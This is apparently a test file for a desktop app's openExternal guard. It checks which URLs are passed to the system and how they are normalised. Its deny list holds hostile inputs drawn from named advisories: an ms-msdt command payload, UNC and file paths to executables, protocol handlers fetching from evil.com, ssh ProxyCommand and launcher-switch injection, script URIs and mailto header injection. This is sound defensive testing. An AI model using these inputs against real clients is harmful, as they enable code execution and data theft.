import { describe, expect, test, vi } from 'vitest';
import { openExternal } from '../../src/main/open-external.ts';

const attempt = async (url: string) => {
  const shell = { openExternal: vi.fn(async (_url: string) => {}) };
  const opened = await openExternal(shell, url);
  expect(shell.openExternal).toHaveBeenCalledTimes(opened ? 1 : 0);
  return opened ? shell.openExternal.mock.calls[0]?.[0] : null;
};

describe('threat 18: what may leave for the system', () => {
  test.each([
    ['https://www.gob.pe', 'https://www.gob.pe/'],
    ['HTTPS://WWW.GOB.PE/Mesa?x=1#y', 'https://www.gob.pe/Mesa?x=1#y'],
    ['http://intranet:8080/a/../b', 'http://intranet:8080/b'],
    ['https://www.gob.pe/año', 'https://www.gob.pe/a%C3%B1o'],
    ['https://gob.pe/a%20b', 'https://gob.pe/a%20b'],
    ['mailto:mesa@ministerio.gob.pe', 'mailto:mesa@ministerio.gob.pe'],
    ['mailto:a@b.pe,c@d.pe?subject=Ticket%201&cc=e@f.pe', 'mailto:a@b.pe,c@d.pe?subject=Ticket%201&cc=e%40f.pe'],
    // What a mail program would attach, or send by itself, is left behind.
    ['mailto:a@b.pe?attach=/etc/passwd&subject=x&attachment=C:%5Cx&bcc=z@y.pe', 'mailto:a@b.pe?subject=x'],
  ])('%s goes out as %s', async (text, sent) => {
    expect(await attempt(text)).toBe(sent);
  });

  test('a refusal of the system is an answer, no exception', async () => {
    const shell = { openExternal: () => Promise.reject(new Error('no program')) };
    expect(await openExternal(shell, 'https://www.gob.pe')).toBe(false);
  });

  /** Shapes of the advisories: Mattermost GHSA-hvxg-77mg-vrvp, Zulip CVE-2020-10857, Rocket.Chat CVE-2022-44567, GHSA-w222-53c6-c86p. */
  const refused = [
    // Local files, shares and whatever a system runs by its name.
    'file:///etc/passwd',
    'file://server/share/evil.exe',
    'FILE:///C:/Windows/System32/calc.exe',
    'smb://server/share/evil.exe',
    'smb://10.0.0.1/x.desktop',
    'nfs://server/x.app',
    'ftp://server/evil.lnk',
    'sftp://server/x',
    'dav://server/x',
    'webdav://server/x',
    '\\\\server\\share\\evil.exe',
    '//server/share/evil.exe',
    'C:\\Windows\\System32\\calc.exe',
    'C:/Windows/System32/calc.exe',
    '/usr/bin/xterm',
    'calc.exe',
    // Handlers that take commands.
    'ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=/../../$(calc).exe"',
    'ms-msdt:-id',
    'search-ms:query=evil&crumb=location:\\\\server\\share',
    'ms-officecmd:{"id":3}',
    'ms-word:ofe|u|https://evil.com/x.docx',
    'ms-appinstaller:?source=https://evil.com/x.appx',
    'ms-settings:',
    'vscode://file/x',
    'jnlp://evil.com/x.jnlp',
    'ldap://evil.com/x',
    'tel:+51999999999',
    'rustdesk://password/x',
    'anydesk:123456789',
    'teamviewer10://control?device=1',
    'ssh://-oProxyCommand=calc@host',
    'chasqui://ticket/0199a5b2-7c11-7d3e-8a54-5f0e9d3c2b1a',
    'chasqui-app://console/',
    // Script.
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\nscript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'blob:https://x/1',
    'about:blank',
    'view-source:https://x',
    // One parser's host is another's path; leading and inner controls; switches.
    ' https://x.pe',
    '\thttps://x.pe',
    '\0https://x.pe',
    'https://x.pe\n',
    'https://x.pe/\r\nX: y',
    'ht\ttps://x.pe',
    'https:\\\\x.pe',
    'https:/x.pe',
    'https:x.pe',
    'https:///x.pe',
    'https://x.pe\\@evil.com',
    'https://gob.pe@evil.com/',
    'https://user:pw@gob.pe/',
    'https://x.pe/" --gpu-launcher="calc',
    'https://x.pe/<script>',
    'https://x.pe/`calc`',
    'https://',
    'https://?x',
    'https://x.pe:99999/',
    'https://x.pe/\u0085',
    '--inspect',
    '',
    // Mail.
    'mailto:',
    'mailto:not an address',
    'mailto:a@b.pe%0aBcc:z@y.pe',
    'mailto:"a b"@c.pe',
    'mailto:%ff@x.pe',
    'mailto://a@b.pe',
    `https://x.pe/${'a'.repeat(3000)}`,
  ];
  test.each(refused.map((url) => [url]))('%j stays inside', async (url) => {
    expect(await attempt(url)).toBeNull();
  });
});
